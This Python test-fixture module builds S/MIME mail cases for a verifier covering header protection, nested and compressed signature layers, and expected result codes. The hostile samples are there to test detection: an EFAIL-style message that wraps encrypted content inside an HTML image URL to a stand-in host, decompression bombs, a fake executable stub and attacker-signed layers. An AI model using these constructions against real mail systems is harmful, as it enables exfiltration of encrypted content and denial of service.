# SPDX-License-Identifier: GPL-3.0-or-later
"""shapes_layers - layers around the content (RFC 8551 §3.7, RFC 3274) and the header inside the
signature (RFC 9788).

CODES: what each must say and must not say, beyond its expectation; t125-layers.py asks.
"""

import zlib

from . import cms, der, keys, message as m, pki
from .expect import bad, broken, doubt, expectation, good
from .shapes import Shape as S

OTHER = pki.AGENCIES["tinh"].address
IDENTITY = ("From", "To", "Subject", "Date", "Message-ID")


# the header inside

def fields(k, **changes):
	"""The fields of the mail as its author wrote them; a change to None leaves one out."""
	out = []
	for name, value in k.outer():
		key = name.replace("-", "_")
		if name in IDENTITY and changes.get(key, value) is not None:
			out.append((name, changes.get(key, value)))
	return out + [(n.replace("_", "-"), v) for n, v in changes.items()
		if n.replace("_", "-") not in IDENTITY and v is not None]


def protected(k, inner=None, outer=None, hp="; hp=clear", parts=()):
	"""Signed with header protection; inner: the fields within, outer: those around it."""
	k.doc()
	content = k.content(*parts, params=hp, more=fields(k) if inner is None else inner)
	return k.signed(content, outer=outer)


def inside(**changes):
	return lambda k: protected(k, fields(k, **changes))


def outside(**changes):
	"""The author's header is inside, this is what came of it outside."""
	def make(k):
		raw = protected(k)
		for name, value in changes.items():
			raw = m.replace_header(raw, name.replace("_", "-"),
				*([value(k)] if callable(value) else [value]))
		return raw
	return make


def cipher(k, outer_subject="[...]"):
	"""Its author encrypted it and hid the subject; a gateway opened it on the way."""
	inner = fields(k)
	hidden = [("HP-Outer", "%s: %s" % (n, "[...]" if n == "Subject" else v))
		for n, v in inner if isinstance(v, str) and n != "From"]
	return protected(k, inner + hidden, k.outer(subject=outer_subject), "; hp=cipher")


def wrapped(k, params="; forwarded=no", more=(), **changes):
	"""RFC 8551 §3.1: the whole message in message/rfc822, then signed."""
	k.doc()
	entity = m.entity("message/rfc822" + params, m.headers(fields(k, **changes) + list(more)
		+ [("MIME-Version", "1.0")]) + k.content())
	return k.signed(entity)


def quoted_subject(k):
	return m.word(k.subject(), encoding="Q").encode()


def in_utc(k):
	"""The same second as another server writes it."""
	import datetime
	t = datetime.datetime.fromtimestamp(k.now - 3600, datetime.timezone.utc)
	return t.strftime("%d ").lstrip("0") + ("Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec"
		.split()[t.month - 1]) + t.strftime(" %Y %H:%M:%S +0000 (UTC)")


# the layers

def compressed_part(content, blob=None, **options):
	return m.attachment(cms.compressed_data(content, **options) if blob is None else blob,
		"smime.p7z", "application/pkcs7-mime; smime-type=compressed-data")


def compressed(build=None, **options):
	"""signed > compressed"""
	return lambda k: k.signed(compressed_part(build(k) if build else k.content(), **options))


def outermost(build):
	"""Compressed data around everything."""
	return lambda k: m.mail(k.outer(), compressed_part(build(k)))


def nested(k, count, make=m.opaque):
	inner = k.content()
	for _ in range(count - 1):
		inner = make(inner, k.signer())
	return k.signed(inner)


def enveloped(k, inner):
	blob = keys.openssl("cms", "-encrypt", "-binary", "-aes256", "-outform", "DER",
		k.pki["kimson-document"].cert_path, data=inner)
	return m.attachment(blob, "smime.p7m", "application/pkcs7-mime; smime-type=enveloped-data")


def bomb(megabytes):
	"""Nothing but zeros, made without having them."""
	packer, out = zlib.compressobj(9), []
	for _ in range(megabytes):
		out.append(packer.compress(bytes(1024 * 1024)))
	return b"".join(out) + packer.flush()


def program(k):
	return k.content(k.note(), k.file(), m.attachment(b"MZ\x90\0" + bytes(99), "chay.exe"))


def secret(k):
	k.doc(secrecy="MẬT")
	return k.content()


def other_data(kind):
	"""A CMS type that nobody opens, in a part of its own."""
	blob = cms.content_info(kind, der.seq(der.integer(0), der.octets(b"x" * 40)))
	return m.attachment(blob, "smime.p7m", "application/pkcs7-mime")


def altered_inside(k):
	"""The inner signature does not hold, the outer one does."""
	inner = m.signed(k.content(), k.signer())
	at = inner.index(b"JVBERi0") + 4000
	return k.signed(inner[:at] + (b"A" if inner[at:at + 1] != b"A" else b"B") + inner[at + 1:])


def resigned(k):
	"""A list signs again, the original is inside."""
	inner = m.signed(k.content(), k.signer())
	return k.signed(inner, label="taichinh")


def forwarded(k):
	"""Sent on as an attachment of an unsigned mail."""
	original = k.signed()
	return m.mail(k.outer(subject="Fwd: văn bản"), m.multipart([m.text("Xem kèm.\n"),
		m.entity("message/rfc822", original)]))


def nested_path(k):
	"""Paths that a report cannot hold."""
	inner = k.content()
	for i in range(7):
		inner = m.multipart([m.text("%d\n" % i), inner], boundary="=_deep%d" % i)
	for _ in range(3):
		inner = m.opaque(m.signed(inner, k.signer()), k.signer())
	return k.signed(inner)


def efail(k):
	"""The encrypted part between halves of an HTML image (EFAIL, direct exfiltration)."""
	def half(text):
		return m.text(text, subtype="html")
	return m.mail(k.outer(), m.multipart([half('<img src="http://e.example/'),
		enveloped(k, k.content()), half('">')]))


def with_footer(k):
	"""A list's footer beside an opaque signature."""
	return m.mail(k.outer(), m.multipart([m.opaque(k.content(), k.signer()),
		m.text("--\nDanh sách thư cán bộ\n")]))


def forwarded_signed(k):
	"""Another agency's signed mail as an attachment of a signed one."""
	content = k.content()
	other = m.mail(k.outer(agency="tinh", mid="<goc@hason.example>"), m.signed(m.text("Gốc.\n"),
		k.signer("tinh")))
	return k.signed(m.multipart([content, m.entity("message/rfc822", other)]))


DIFFERS = doubt("sender", fields=True)
PARTIAL = dict(status="partial", chain="unknown", sender="unknown")
NONE = dict(status="none", chain="unknown", sender="unknown")

TABLE = [
	S("hp-clear", protected, "the header is signed too", good()),
	S("hp-cipher", cipher, "the header was encrypted by its author, the subject hidden", good()),
	S("hp-cipher-changed", lambda k: cipher(k, "Công văn khác"),
		"a hidden subject, another one outside", DIFFERS),
	S("hp-v1", lambda k: protected(k, fields(k, To=None, Date=None, Message_ID=None),
		hp='; protected-headers="v1"'), "protected-headers=v1 with two fields", good()),
	S("hp-wrapped", wrapped, "message/rfc822 with forwarded=no", good()),
	S("hp-wrapped-bare", lambda k: wrapped(k, ""), "message/rfc822 with the same Message-ID",
		good()),
	S("hp-wrapped-from", lambda k: wrapped(k, From=OTHER), "the same, another From inside",
		bad("sender", sender="mismatch")),
	S("hp-wrapped-forward", lambda k: wrapped(k, "", From=OTHER, Message_ID="<xa@tinh.example>"),
		"a forwarded message, signed by who forwards it", good(verdict=["good", "doubt"],
			office=["registered", "held"])),
	S("hp-other-value", lambda k: protected(k, fields(k, Subject="Khác"), hp="; hp=maybe"),
		"an unknown value of hp protects nothing", good()),
	S("hp-reencoded", outside(Subject=quoted_subject, Date=in_utc,
		To='"UBND (Kim Son)" <vanthu@KIMSON.example>'), "encoded and folded anew outside", good()),
	S("hp-added-id", lambda k: protected(k, fields(k, Message_ID=None, Date=None)),
		"date and id were added on the way", good()),
	S("hp-from", inside(From=OTHER), "another From inside", bad("sender", sender="mismatch")),
	S("hp-from-outside", lambda k: protected(k, outer=k.outer(agency="tinh")),
		"another From outside", bad("sender", sender="mismatch")),
	S("hp-sender", inside(Sender=OTHER), "another Sender inside", doubt("sender",
		verdict=["doubt", "bad"])),
	S("hp-subject", outside(Subject="Công văn số 1/KH về việc khác"), "another subject outside",
		doubt("sender", fields=True)),
	S("hp-tag", outside(Subject=lambda k: "[EXTERNAL] " + k.subject()),
		"a gateway's tag before the subject", doubt("signature", fields=True)),
	S("hp-date", outside(Date="Mon, 5 Jan 2026 08:00:00 +0700"), "another date outside", DIFFERS),
	S("hp-to", outside(To="vanthu@kimson.example, x@dan.example"), "one more receiver outside",
		DIFFERS),
	S("hp-cc", outside(Cc="x@dan.example"), "a Cc outside alone", DIFFERS),
	S("hp-reply-to", outside(Reply_To="x@dan.example"), "a Reply-To outside alone", DIFFERS),
	S("hp-message-id", outside(Message_ID="<khac@hason.example>"), "another id outside", DIFFERS),
	S("hp-twice", lambda k: protected(k, fields(k) + [("Subject", "Khác")]),
		"two subjects inside", doubt("structure")),
	S("hp-claims", inside(X_Vanthu_Verdict="101 proved", Authentication_Results="x; smime=pass"),
		"claims of ours inside: nobody reads them", good()),
	S("hp-altered", lambda k: protected(k, fields(k, Subject="Khác")).replace(
		b"hp=clear", b"hp=Clear"), "the protection itself was touched", broken("signature")),
	S("hp-other-office", lambda k: protected(k, fields(k, To=OTHER)),
		"signed to another office, sent on to us", DIFFERS),
	S("layers-two", lambda k: nested(k, 2), "opaque in multipart/signed", good()),
	S("layers-opaque", lambda k: k.opaque(m.opaque(k.content(), k.signer())), "opaque in opaque",
		good()),
	S("layers-mixed", lambda k: k.opaque(m.signed(m.opaque(k.content(), k.signer()), k.signer())),
		"opaque, detached, opaque", good()),
	S("layers-four", lambda k: nested(k, 4), "four signatures around one another", good()),
	S("layers-four-clear", lambda k: nested(k, 4, m.signed), "four detached ones", good()),
	S("layers-five", lambda k: nested(k, 5), "five are too many", doubt("signature")),
	S("layers-five-clear", lambda k: nested(k, 5, m.signed), "five detached ones",
		doubt("signature")),
	S("layers-foreign", lambda k: k.signed(m.signed(k.content(), k.signer("attacker"))),
		"a stranger's signature inside is nobody's", good()),
	S("layers-foreign-outside", lambda k: k.signed(m.signed(k.content(), k.signer()),
		label="attacker"), "the right one inside does not help a stranger outside",
		bad("sender", sender="mismatch")),
	S("layers-altered", altered_inside, "the inner signature is broken, the outer holds",
		good(verdict=["good", "doubt", "bad"], fields={}, office=["registered", "held"])),
	S("layers-resigned", resigned, "a list signed it again", bad("sender", sender="mismatch")),
	S("layers-forwarded", forwarded, "sent on as an attachment", doubt("signature", **PARTIAL)),
	S("layers-forwarded-signed", forwarded_signed, "signed mail of another attached to signed mail",
		good(verdict=["good", "doubt"], office=["registered", "held"])),
	S("layers-footer", with_footer, "a footer beside an opaque signature",
		doubt("signature", "structure", **PARTIAL)),
	S("layers-efail", efail, "encrypted between halves of an HTML image",
		doubt("signature", "filetype", encrypted=False, **NONE)),
	S("layers-compressed-twice", compressed(lambda k: compressed_part(compressed_part(k.content()))),
		"compressed three times", good()),
	S("layers-compressed-chain", compressed(lambda k: compressed_part(compressed_part(
		compressed_part(k.content())))), "compressed four times", doubt("signature")),
	S("layers-triple", lambda k: k.signed(enveloped(k, m.signed(k.content(), k.signer()))),
		"signed, encrypted, signed", doubt("signature", encrypted=True)),
	S("layers-compressed", compressed(), "compressed, then signed", good()),
	S("layers-compressed-pieces", compressed(pieces=True), "the same, in pieces", good()),
	S("layers-compressed-opaque", lambda k: k.opaque(compressed_part(k.content())),
		"compressed, then signed opaque", good()),
	S("layers-compressed-signed", compressed(lambda k: m.signed(k.content(), k.signer())),
		"signed, compressed, signed", good()),
	S("layers-compressed-program", compressed(program), "a program in compressed data",
		doubt("filetype", verdict=["doubt", "bad"])),
	S("layers-compressed-secret", outermost(secret), "a state secret in compressed data",
		expectation("bad", ("secrecy",), **NONE, office=["held"])),
	S("layers-compressed-outside", outermost(lambda k: k.content()), "compressed and not signed",
		doubt("signature", **NONE)),
	S("layers-compressed-around", outermost(lambda k: m.signed(k.content(), k.signer())),
		"signed, then compressed", doubt("signature", **PARTIAL)),
	S("layers-compressed-enveloped", lambda k: m.mail(k.outer(), compressed_part(enveloped(k,
		k.content()))), "encrypted, then compressed", doubt("signature", encrypted=True, **NONE)),
	S("layers-bomb", compressed(stream=bomb(65)), "65 MiB of zeros", doubt("jail")),
	S("layers-bomb-ratio", compressed(stream=bomb(8)), "8 MiB of zeros", doubt("jail")),
	S("layers-small-ratio", lambda k: k.signed(compressed_part(k.content(k.note(),
		k.file(), m.attachment(b" " * 300000, "trang.txt", "text/plain", cte="8bit")))),
		"300 KB of blanks: small ones may shrink as they like", good(verdict=["good", "doubt"],
			office=["registered", "held"])),
	S("layers-compressed-cut", lambda k: k.signed(compressed_part(b"", stream=zlib.compress(
		k.content())[:-9])), "the stream is cut off", doubt("filetype")),
	S("layers-compressed-trailing", lambda k: k.signed(compressed_part(b"", stream=zlib.compress(
		k.content()) + b"more")), "bytes behind the stream", doubt("filetype")),
	S("layers-compressed-algorithm", compressed(algorithm="1.2.3.4"), "another algorithm",
		doubt("filetype")),
	S("layers-compressed-type", compressed(inner=cms.SIGNED_DATA), "no id-data inside",
		doubt("filetype")),
	S("layers-digested", lambda k: k.signed(other_data(cms.DIGESTED_DATA)), "digested data inside",
		doubt("filetype")),
	S("layers-encrypted-data", lambda k: k.signed(other_data(cms.ENCRYPTED_DATA)),
		"encrypted data inside", doubt("filetype")),
	S("layers-digested-outside", lambda k: m.mail(k.outer(), other_data(cms.DIGESTED_DATA)),
		"digested data outside", broken("signature", verdict=["bad", "doubt"])),
	S("layers-path", nested_path, "deep parts under four layers: too long to name",
		doubt("signature|structure")),
]


# name: (codes that must be there, codes that must not)
CODES = {
	"hp-clear": ([101, 113], [408, 409]),
	"hp-cipher": ([101, 113], [409]),
	"hp-cipher-changed": ([409], [113, 101]),
	"hp-v1": ([101, 113], []),
	"hp-wrapped": ([101, 113], []),
	"hp-wrapped-bare": ([101, 113], []),
	"hp-wrapped-from": ([408], [113, 101]),
	"hp-wrapped-forward": ([101], [113, 408, 409]),
	"hp-other-value": ([101], [113, 409]),
	"hp-reencoded": ([101, 113], [409, 228]),
	"hp-added-id": ([101, 113], [409]),
	"hp-from": ([408], [101, 113]),
	"hp-from-outside": ([401, 408], [101, 113]),
	"hp-subject": ([409], [101, 113, 228]),
	"hp-sender": ([409], [101, 113]),
	"hp-tag": ([228], [101, 113, 409]),
	"hp-date": ([409], [113]),
	"hp-to": ([409], [113]),
	"hp-cc": ([409], [113]),
	"hp-reply-to": ([409], [113]),
	"hp-message-id": ([409], [113]),
	"hp-twice": ([502], [113]),
	"hp-claims": ([101, 113], []),
	"hp-altered": ([210], [113, 409]),
	"hp-other-office": ([409], [113]),
	"layers-two": ([101, 114], [606]),
	"layers-opaque": ([101, 114], [606]),
	"layers-mixed": ([101, 114], [606]),
	"layers-four": ([101, 114], [205, 606]),
	"layers-four-clear": ([101, 114], [205]),
	"layers-five": ([205, 114], [101]),
	"layers-five-clear": ([205, 114], [101]),
	"layers-foreign": ([101, 114], []),
	"layers-foreign-outside": ([401, 114], [101]),
	"layers-altered": ([101, 114], []),
	"layers-resigned": ([401, 114], [101]),
	"layers-forwarded": ([202], [101, 114]),
	"layers-forwarded-signed": ([], [408, 409, 113, 114]),
	"layers-footer": ([202, 510], [101, 114]),
	"layers-efail": ([201, 606], [101, 203]),
	"layers-compressed-twice": ([101, 114], [205]),
	"layers-compressed-chain": ([205, 114, 606], [101]),
	"layers-triple": ([203, 114], [101]),
	"layers-compressed": ([101, 114], [204, 606]),
	"layers-compressed-pieces": ([101, 114], [204, 606]),
	"layers-compressed-opaque": ([101, 114], [204, 606]),
	"layers-compressed-signed": ([101, 114], [204, 606]),
	"layers-compressed-program": ([601, 114], []),
	"layers-compressed-secret": ([204, 701], [101]),
	"layers-compressed-outside": ([204, 114], [101, 202]),
	"layers-compressed-around": ([204, 202, 114], [101]),
	"layers-compressed-enveloped": ([204, 203], [101]),
	"layers-bomb": ([907, 606], [101]),
	"layers-bomb-ratio": ([907, 606], [101]),
	"layers-small-ratio": ([101], [907]),
	"layers-compressed-cut": ([606], []),
	"layers-compressed-trailing": ([606], []),
	"layers-compressed-algorithm": ([606], []),
	"layers-compressed-type": ([606], []),
	"layers-digested": ([606, 114], []),
	"layers-encrypted-data": ([606, 114], []),
	"layers-digested-outside": ([211], [101]),
	"layers-path": ([205], [101, 906]),
}
